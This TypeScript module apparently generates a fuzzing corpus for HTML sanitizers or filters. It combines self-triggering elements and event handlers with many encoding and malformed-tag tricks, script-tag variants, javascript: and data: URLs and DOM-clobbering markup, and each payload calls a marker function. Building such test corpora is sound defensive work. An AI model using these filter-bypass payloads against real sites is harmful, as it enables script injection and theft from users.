import { RAN } from './code.ts'

/** Elements that run a handler by themselves, with what makes them. */
const selfStarters: [element: string, attributes: string, event: string][] = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src=/favicon.svg', 'onload'],
  ['image', 'href=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['body', '', 'onresize'],
  ['body', '', 'onhashchange'],
  ['iframe', 'src=about:blank', 'onload'],
  ['frameset', '', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onerror'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['video', 'autoplay', 'onloadstart'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['a', 'href=# autofocus tabindex=1', 'onfocus'],
  ['div', 'contenteditable autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['dialog', 'open', 'onfocusin'],
  ['marquee', '', 'onstart'],
  ['style', '', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['script', 'src=x', 'onerror'],
  ['p', 'style="animation:x 1s"', 'onanimationstart'],
  ['p', 'style="transition:all 1s"', 'ontransitionend'],
  ['p', 'style="content-visibility:auto"', 'oncontentvisibilityautostatechange'],
  ['input', 'type=image src=x', 'onerror'],
  ['track', 'src=x', 'onerror'],
  ['source', 'srcset=x', 'onerror'],
  ['x', 'tabindex=1 autofocus', 'onfocus'],
  ['form', '', 'onformdata'],
  ['portal', 'src=x', 'onload'],
  ['animate', 'attributeName=x dur=1s', 'onbegin'],
  ['set', 'attributeName=x', 'onbegin'],
  ['foreignObject', '', 'onload'],
  ['math', '', 'onclick'],
]

/** Ways to write a start tag; HTML's parser is generous, and filters seldom are. */
const spellings: ((element: string, attributes: string, event: string) => string)[] = [
  (element, attributes, event) => `<${element} ${attributes} ${event}=${RAN}>`,
  (element, attributes, event) => `<${element} ${attributes} ${event}="${RAN}">`,
  (element, attributes, event) => `<${element} ${attributes} ${event}='${RAN}'>`,
  (element, attributes, event) => `<${element} ${attributes} ${event}=\`${RAN}\`>`,
  (element, attributes, event) => `<${element.toUpperCase()} ${attributes} ${event.toUpperCase()}=${RAN}>`,
  (element, attributes, event) => `<${mixed(element)} ${attributes} ${mixed(event)}=${RAN}>`,
  (element, attributes, event) => `<${element}/${attributes.replaceAll(' ', '/')}/${event}=${RAN}>`,
  (element, attributes, event) => `<${element}\n${attributes}\n${event}\n=\n${RAN}>`,
  (element, attributes, event) => `<${element}\t${attributes}\f${event}\r=${RAN}>`,
  (element, attributes, event) => `<${element} ${attributes} ${event}=&#95;&#95;ran&lpar;&rpar;>`,
  (element, attributes, event) => `<${element} ${attributes} ${event}=&#x5f;&#x5f;ran&#40&#41>`,
  (element, attributes, event) => `<${element} ${attributes} ${event}="${RAN}"`,
  (element, attributes, event) => `<<${element} ${attributes} ${event}=${RAN}>>`,
  (element, attributes, event) => `<${element} x="<!--" ${attributes} ${event}=${RAN} y="-->">`,
  (element, attributes, event) => `<${element} ${attributes} a=">" ${event}=${RAN}>`,
  (element, attributes, event) => `&lt;${element} ${attributes} ${event}=${RAN}&gt;`,
  (element, attributes, event) => `&amp;lt;${element} ${attributes} ${event}=${RAN}&amp;gt;`,
  (element, attributes, event) => `\\u003c${element} ${attributes} ${event}=${RAN}\\u003e`,
  (element, attributes, event) => `\u0000<${element}\u0000 ${attributes} ${event}\u0000=${RAN}>`,
  (element, attributes, event) => `＜${element} ${attributes} ${event}=${RAN}＞`,
  (element, attributes, event) => `%3C${element}%20${attributes}%20${event}=${RAN}%3E`,
]

/** Text around it that a page or a filter may already be inside of. */
const surroundings: ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `"><p>${markup}</p>`,
  (markup) => `<p><b>${markup}</b></p>`,
]

const mixed = (name: string) => [...name].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join('')

const scripts = [
  `<script>${RAN}</script>`, `<SCRIPT>${RAN}</SCRIPT>`, `<script\n>${RAN}</script\n>`, `<script/x>${RAN}</script>`, `<script>${RAN}`,
  `<script type=module>${RAN}</script>`, `<script src=data:text/javascript,${RAN}></script>`, `<script src="data:;base64,X19yYW4oKQ=="></script>`,
  `<scr<script>ipt>${RAN}</scr</script>ipt>`, `<svg><script>${RAN}</script></svg>`, `<svg><script href=data:,${RAN} /></svg>`,
  `<iframe srcdoc="<script>parent.${RAN}</script>"></iframe>`, `<iframe srcdoc='&lt;script&gt;parent.${RAN}&lt;/script&gt;'></iframe>`,
  `<object data="data:text/html,<script>parent.${RAN}</script>"></object>`, `<embed src="data:text/html,<script>parent.${RAN}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RAN}">`, `<base href="javascript:/a/-${RAN}//">`, `<link rel=import href="data:text/html,<script>${RAN}</script>">`,
  `<form><button formaction=javascript:${RAN}>x</button></form>`, `<form action=javascript:${RAN}><input type=submit autofocus></form>`,
  `<isindex type=image src=1 onerror=${RAN}>`, `<template shadowrootmode=open><img src=x onerror=${RAN}></template>`,
  `<noscript><img src=x onerror=${RAN}></noscript>`, `<![CDATA[<img src=x onerror=${RAN}>]]>`, `<?xml version="1.0"?><img src=x onerror=${RAN}>`,
  `<a href="x" id=__ran name=__ran>clobbered</a>`, `<form id=document><input name=body></form>`, `<img name=getElementById><img name=currentScript src=x>`,
]

export const markupPayloads = (): string[] => [
  ...scripts,
  ...selfStarters.flatMap(([element, attributes, event]) =>
    spellings.flatMap((spell) => surroundings.map((surround) => surround(spell(element, attributes, event)))),
  ),
]
